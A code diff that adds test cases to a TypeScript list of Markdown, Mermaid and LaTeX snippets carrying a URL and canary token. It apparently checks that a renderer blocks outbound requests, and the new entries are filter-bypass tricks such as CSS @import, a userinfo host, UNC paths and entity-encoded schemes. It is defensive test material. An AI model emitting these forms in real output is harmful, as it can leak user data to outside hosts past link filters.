@@ -75,6 +75,9 @@ const FORMS = (to: string): string[] => [
   `# [Heading](${to}${CANARY})`,
   `\`\`\`mermaid\nflowchart TD\n A --> B\n click A "${to}${CANARY}"\n\`\`\``,
   `\`\`\`mermaid\nflowchart TD\n A@{ img: "${to}${CANARY}" }\n\`\`\``,
+  `\`\`\`mermaid\nflowchart TD\n A@{ "img": "${to.slice(6)}${CANARY}" }\n\`\`\``,
+  `\`\`\`mmd\n---\nconfig:\n  themeCSS: "@import '${to.slice(6)}${CANARY}'"\n---\nflowchart TD\n A\n\`\`\``,
+  `$$\\style{background:url(${to.slice(6)}${CANARY})}{x}$$`,
   `$$\\href{${to}${CANARY}}{x}$$`,
   `The value $\\href{${to}${CANARY}}{x}$ is`,
   `$$\\includegraphics{${to}${CANARY}}$$`,
@@ -85,6 +88,8 @@ const FORMS = (to: string): string[] => [
   `[mail](mailto:${CANARY}@stranger.example)`,
   `[${CANARY}](https://${CANARY.toLowerCase()}.stranger.example/)`,
   `[script](javascript:fetch('${to}${CANARY}'))`,
+  `[a](//${to.slice(8)}${CANARY}) [b](\\\\${to.slice(8)}${CANARY}) [c](HTTPS://${to.slice(8).toUpperCase()}${CANARY})`,
+  `[a](https://app.notion.com@${to.slice(8)}${CANARY}) [b](https&#58;//${to.slice(8)}${CANARY})`,
   `[![badge](${to}${CANARY})](${to}${CANARY})`,
 ];
 
